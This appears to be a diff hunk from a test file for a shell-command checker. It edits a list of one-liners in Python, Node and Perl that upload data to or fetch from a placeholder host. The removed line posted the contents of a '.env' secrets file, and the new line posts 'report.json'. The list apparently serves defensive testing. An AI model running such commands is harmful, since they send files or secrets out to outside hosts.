@@ -174,7 +174,7 @@ def test_sed_e_runs_its_command_as_a_shell_would(tmp_path: Path) -> None:
 
 UPLOADS = [
     f"python3 -c \"import urllib.request;urllib.request.urlopen('http://{HOST}/upload',b'x')\"",
-    f"python -c \"import requests; requests.post('https://{HOST}/u', data=open('.env').read())\"",
+    f"python -c \"import requests; requests.post('https://{HOST}/u', data=open('report.json').read())\"",
     f"node -e \"fetch('http://{HOST}/x')\"",
     f"node --eval \"require('https').get('https://{HOST}/x')\"",
     f"perl -e 'use LWP::Simple; get(\"http://{HOST}/\")'",
